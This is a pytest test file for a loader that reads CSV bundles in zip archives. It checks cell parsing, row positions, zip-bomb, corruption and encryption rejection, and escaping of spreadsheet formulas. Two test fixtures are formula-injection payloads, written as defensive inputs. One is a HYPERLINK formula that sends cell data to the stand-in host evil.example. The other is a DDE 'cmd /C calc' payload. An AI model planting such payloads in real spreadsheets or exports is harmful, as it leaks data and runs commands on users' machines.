"""The CSV bundle (docs/formats.md): cell encoding, positions, and bad bytes in zips and CSVs."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from loaders import csv_bundle
from loaders.csv_bundle import (
    COLUMNS, MEMBERS, ROW_SPAN, CsvBundleSource, describe_position, inert_csv_cell,
)
from loaders.errors import ExtractRejected
from loaders.pipeline import read_header
from loaders.schemas import RECORD_SCHEMAS
from loaders.sources import JsonLinesSource, open_source

ROOT = Path(__file__).resolve().parents[2]
EXAMPLES = ROOT / "docs" / "examples"
HEADER = (b'{"record": "header", "format": "registry-extract", "version": 1, '
          b'"institution": "COBADEFFXXX", "kind": "delta", "as_of": "2026-01-01", '
          b'"sequence": 2, "counts": {"person": 1}}')


def bundle(path: Path, members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> Path:
    with zipfile.ZipFile(path, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return path


def rows(path: Path) -> list[tuple[int, dict[str, Any] | None, str | None]]:
    return list(CsvBundleSource(path).records())


def only_record(tmp_path: Path, kind: str, csv_text: str) -> dict[str, Any]:
    path = bundle(tmp_path / "b.zip", {"header.json": HEADER, f"{kind}.csv": csv_text.encode()})
    [(_, record, error)] = rows(path)
    assert error is None and record is not None
    return record


def test_the_example_bundle_holds_exactly_the_example_jsonl() -> None:
    source = open_source(EXAMPLES / "example-bundle.zip")
    assert isinstance(source, CsvBundleSource)
    jsonl = JsonLinesSource(EXAMPLES / "example.jsonl")
    assert source.header()[1] == jsonl.header()[1]
    assert [r for _, r, _ in source.records()] == [r for _, r, _ in jsonl.records()]
    assert read_header(source).counts == {"person": 2, "entity": 1, "account": 2, "role": 3,
                                          "ownership": 1}


def test_the_committed_zip_is_built_from_the_example_folder() -> None:
    with zipfile.ZipFile(EXAMPLES / "example-bundle.zip") as archive:
        assert sorted(archive.namelist()) == sorted(MEMBERS)
        for name in MEMBERS:
            assert archive.read(name) == (EXAMPLES / "example-bundle" / name).read_bytes(), name


def test_every_example_row_passes_validation() -> None:
    for _, record, error in CsvBundleSource(EXAMPLES / "example-bundle.zip").records():
        assert error is None and record is not None
        RECORD_SCHEMAS[record["record"]].load(record)


def test_list_identifier_boolean_and_empty_cells(tmp_path: Path) -> None:
    record = only_record(tmp_path, "person", (
        "id,full_name,other_names,nationalities,identifiers,pep,birth_date,address\n"
        'P1,Ann Lee,"A. Lee; Ann Li",de; FR ;,passport:DE:X:1|tax_id::99,TRUE, ,\n'))
    assert record == {
        "record": "person", "id": "P1", "full_name": "Ann Lee", "other_names": ["A. Lee", "Ann Li"],
        "nationalities": ["de", "FR"],
        "identifiers": [{"scheme": "passport", "country": "DE", "value": "X:1"},
                        {"scheme": "tax_id", "value": "99"}],
        "pep": True}


def test_lists_may_be_json_arrays(tmp_path: Path) -> None:
    record = only_record(tmp_path, "person", (
        'id,full_name,other_names,identifiers\n'
        'P1,Ann,"[""Lee; Ann""]","[{""scheme"": ""passport"", ""value"": ""A|B""}]"\n'))
    assert record["other_names"] == ["Lee; Ann"]
    assert record["identifiers"] == [{"scheme": "passport", "value": "A|B"}]


def test_share_and_voting_columns_become_ranges(tmp_path: Path) -> None:
    record = only_record(tmp_path, "ownership", (
        "owner,owned,share_exact,share_min,share_max,voting_min,interests,direct,from\n"
        "P1,E1,,25,50.5,10,shareholding;votingRights,false,2020-01-01\n"))
    assert record == {"record": "ownership", "owner": "P1", "owned": "E1",
                      "share": {"min": 25, "max": 50.5}, "voting": {"min": 10},
                      "interests": ["shareholding", "votingRights"], "direct": False,
                      "from": "2020-01-01"}
    RECORD_SCHEMAS["ownership"].load(record)


def test_cells_that_are_not_numbers_or_booleans_reach_the_validator_as_text(tmp_path: Path) -> None:
    record = only_record(tmp_path, "ownership", "owner,owned,share_exact,direct\nP1,E1,12,5,ja\n"
                         .replace("12,5", '"12,5"'))
    assert record["share"] == {"exact": "12,5"} and record["direct"] == "ja"
    with pytest.raises(Exception) as caught:
        RECORD_SCHEMAS["ownership"].load(record)
    assert set(caught.value.messages) == {"share", "direct"}  # type: ignore[attr-defined]


def test_formulas_are_stored_as_the_text_they_are(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    record = only_record(tmp_path, "entity", f'id,name,address\nE1,"{formula.replace(chr(34), 2 * chr(34))}",@SUM(1)\n')
    assert record["name"] == formula and record["address"] == "@SUM(1)"


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+49 30 1234", "'+49 30 1234"), ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("-5", "-5"), ("+3.5", "+3.5"), ("Anna", "Anna"), ("", ""), ("a=b", "a=b"),
])
def test_inert_csv_cell(value: str, written: str) -> None:
    assert inert_csv_cell(value) == written


@given(st.text())
def test_inert_cells_never_start_a_formula(value: str) -> None:
    cell = inert_csv_cell(value)
    assert not cell.startswith(csv_bundle.FORMULA_START) or csv_bundle.NUMBER.fullmatch(cell)
    assert cell in (value, "'" + value)


def test_semicolon_separated_files_and_a_bom_are_read(tmp_path: Path) -> None:
    record = only_record(tmp_path, "person", "\ufeffid;full_name;nationalities\nP1;Ann;\"DE;FR\"\n")
    assert record == {"record": "person", "id": "P1", "full_name": "Ann", "nationalities": ["DE", "FR"]}


def test_positions_name_file_and_spreadsheet_row(tmp_path: Path) -> None:
    path = bundle(tmp_path / "b.zip", {
        "header.json": HEADER,
        "person.csv": b"id,full_name\nP1,Ann\n\nP2,Bob\n",
        "role.csv": b"account,party,role\nA1,P1,holder,extra\n",
    })
    got = rows(path)
    assert [position for position, _, _ in got] == [ROW_SPAN + 2, ROW_SPAN + 4, 4 * ROW_SPAN + 2]
    assert describe_position(got[1][0]) == "person.csv row 4"
    assert describe_position(got[2][0]) == "role.csv row 2"
    assert describe_position(1) == "header.json"
    assert got[2][1] is None and got[2][2] == "role.csv row 2: 4 cells, but 3 columns"


def test_files_are_read_in_record_order_whatever_the_zip_order(tmp_path: Path) -> None:
    path = bundle(tmp_path / "b.zip", {"ownership.csv": b"owner,owned\nP1,E1\n", "header.json": HEADER,
                                       "person.csv": b"id,full_name\nP1,Ann\n"})
    assert [r["record"] for _, r, _ in rows(path) if r] == ["person", "ownership"]


@pytest.mark.parametrize("data, message", [
    (b"id,full_name\nP1,Ann \xff\xfe\n", "person.csv row 2, column full_name: not UTF-8"),
    (b"id,full_name\nP1,A\x00nn\n", "person.csv row 2, column full_name: contains a NUL character"),
    (b"id,full_name,identifiers\nP1,Ann,passport-DE-1\n",
     "person.csv row 2, column identifiers: 'passport-DE-1' is not scheme:country:value"),
    (b'id,full_name,nationalities\nP1,Ann,"[""DE"""\n', "person.csv row 2, column nationalities: not valid JSON"),
])
def test_bad_cells_are_errors_of_their_row(tmp_path: Path, data: bytes, message: str) -> None:
    columns = data.split(b"\n")[0].count(b",") + 1
    following = b"P9,Next Row" + b"," * (columns - 2) + b"\n"
    path = bundle(tmp_path / "b.zip", {"header.json": HEADER, "person.csv": data + following})
    (position, record, error), following = rows(path)
    assert record is None and error is not None and error.startswith(message)
    assert position == ROW_SPAN + 2
    assert following[1] == {"record": "person", "id": "P9", "full_name": "Next Row"}


def rejection(path: Path) -> str:
    with pytest.raises(ExtractRejected) as caught:
        source = CsvBundleSource(path)
        source.header()
        list(source.records())
    return caught.value.report.problems[0].message


def test_not_a_zip_or_a_truncated_one_is_rejected(tmp_path: Path) -> None:
    good = (EXAMPLES / "example-bundle.zip").read_bytes()
    (tmp_path / "t.zip").write_bytes(good[: len(good) // 2])
    assert "not a readable zip archive" in rejection(tmp_path / "t.zip")
    (tmp_path / "j.zip").write_bytes(b"PK\x03\x04 not really")
    assert "not a readable zip archive" in rejection(tmp_path / "j.zip")


def test_a_corrupt_member_is_rejected_after_the_rows_before_it(tmp_path: Path) -> None:
    body = b"id,full_name\n" + b"".join(b"P%d,Person %d\n" % (i, i) for i in range(5000))
    path = bundle(tmp_path / "b.zip", {"header.json": HEADER, "person.csv": body},
                  zipfile.ZIP_STORED)
    data = bytearray(path.read_bytes())
    data[data.rindex(b"Person 4999")] ^= 0x20  # same length, wrong CRC
    path.write_bytes(bytes(data))
    records = CsvBundleSource(path).records()
    assert next(records)[1] == {"record": "person", "id": "P0", "full_name": "Person 0"}  # streamed
    with pytest.raises(ExtractRejected, match="person.csv is corrupt or truncated"):
        list(records)


@pytest.mark.parametrize("members, message", [
    ({"person.csv": b""}, "no header.json"),
    ({"header.json": HEADER, "people.csv": b""}, "unknown member 'people.csv'"),
    ({"header.json": HEADER, "__MACOSX/._person.csv": b""}, "is inside a folder"),
    ({"bank/header.json": HEADER}, "is inside a folder"),
    ({"header.json": HEADER, "data/": b""}, "is inside a folder"),
])
def test_members_must_be_the_known_files_at_the_top(tmp_path: Path, members: dict[str, bytes],
                                                    message: str) -> None:
    assert message in rejection(bundle(tmp_path / "b.zip", members))


def test_a_member_twice_is_rejected(tmp_path: Path) -> None:
    path = tmp_path / "b.zip"
    with zipfile.ZipFile(path, "w") as archive, pytest.warns(UserWarning, match="Duplicate name"):
        archive.writestr("header.json", HEADER)
        archive.writestr("header.json", HEADER)
    assert "appears more than once" in rejection(path)


def test_zip_bombs_are_refused_before_reading(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    zeros = b"id,full_name\n" + b"0" * (8 * 1024 * 1024)  # deflates about 1000:1
    path = bundle(tmp_path / "b.zip", {"header.json": HEADER, "person.csv": zeros})
    assert "expands more than 200:1" in rejection(path)
    stored = bundle(tmp_path / "s.zip", {"header.json": HEADER, "person.csv": b"id\n" * 1000},
                    zipfile.ZIP_STORED)
    monkeypatch.setattr(csv_bundle, "MAX_UNCOMPRESSED", 2000)
    assert "would expand to" in rejection(stored)


def test_other_compression_and_encryption_are_refused(tmp_path: Path) -> None:
    path = bundle(tmp_path / "b.zip", {"header.json": HEADER}, zipfile.ZIP_BZIP2)
    assert "unsupported compression" in rejection(path)
    # zipfile cannot encrypt: set the "encrypted" flag in the local and central headers.
    locked = bytearray(bundle(tmp_path / "e.zip", {"header.json": HEADER}).read_bytes())
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        locked[locked.index(signature) + offset] |= 0x1
    (tmp_path / "e.zip").write_bytes(bytes(locked))
    assert "is encrypted" in rejection(tmp_path / "e.zip")


@pytest.mark.parametrize("data, message", [
    ("id,full_name\nP1,Ann\n".encode("utf-16"), "person.csv is UTF-16"),
    (b"id,shoe_size\n", "person.csv row 1: unknown column 'shoe_size'"),
    (b"id,id\n", "person.csv row 1: a column name appears more than once"),
    (b"id,full_name\nP1," + b"x" * (1024 * 1024 + 10) + b"\n", "person.csv row 2: longer than"),
    # Quoted cells spanning many lines, each under csv's field limit, together over a row's.
    (b"id,full_name\nP1," + b",".join([b'"' + b"x\n" * 60_000 + b'"'] * 10) + b"\n",
     "person.csv row 2: longer than"),
    (b"id,full_name\nP1," + b"x" * 200_000 + b"\n", "person.csv row 2: field larger than field limit"),
])
def test_bad_csv_files_are_rejected_with_file_and_row(tmp_path: Path, data: bytes, message: str) -> None:
    # Stored: the over-long rows compress past the zip-bomb ratio, which is checked first.
    path = bundle(tmp_path / "b.zip", {"header.json": HEADER, "person.csv": data},
                  zipfile.ZIP_STORED)
    assert rejection(path).startswith(message)


def test_header_json_must_be_one_small_json_object(tmp_path: Path) -> None:
    assert "header.json: not valid JSON" in rejection(
        bundle(tmp_path / "a.zip", {"header.json": b"{oops"}))
    assert "header.json: each line must be one JSON object" in rejection(
        bundle(tmp_path / "b.zip", {"header.json": b"[1]"}))
    assert "header.json is over" in rejection(
        bundle(tmp_path / "c.zip", {"header.json": b" " * 70_000 + HEADER}))
    assert "header.json: contains a NUL character" in rejection(
        bundle(tmp_path / "n.zip", {"header.json": HEADER.replace(b"COBA", b"CO\\u0000BA")}))
    with_bom = bundle(tmp_path / "d.zip", {"header.json": b"\xef\xbb\xbf" + HEADER})
    assert CsvBundleSource(with_bom).header()[1]["institution"] == "COBADEFFXXX"


def test_every_column_maps_to_a_field_of_the_jsonl_record() -> None:
    for kind, columns in COLUMNS.items():
        fields = {f.data_key or name for name, f in RECORD_SCHEMAS[kind].fields.items()} - {"record"}
        assert {path[0] for path, _ in columns.values()} == fields, kind


@settings(max_examples=300, deadline=None)
@given(st.data())
def test_damaged_bundles_are_rejected_never_crash(tmp_path_factory: pytest.TempPathFactory,
                                                  data: st.DataObject) -> None:
    raw = bytearray((EXAMPLES / "example-bundle.zip").read_bytes())
    for _ in range(data.draw(st.integers(1, 6))):
        raw[data.draw(st.integers(0, len(raw) - 1))] = data.draw(st.integers(0, 255))
    raw = raw[: data.draw(st.integers(1, len(raw)))]
    path = tmp_path_factory.mktemp("fuzz") / "b.zip"
    path.write_bytes(bytes(raw))
    source = CsvBundleSource(path)
    try:
        source.header()
        for _, record, error in source.records():
            assert (record is None) != (error is None)
    except ExtractRejected as rejected:
        assert rejected.report.problems[0].message


def test_open_source_tells_a_bundle_by_its_bytes_not_its_name(tmp_path: Path) -> None:
    path = tmp_path / "extract.jsonl"
    path.write_bytes((EXAMPLES / "example-bundle.zip").read_bytes())
    assert isinstance(open_source(path), CsvBundleSource)
    assert io.BytesIO(path.read_bytes()).read(2) == b"PK"
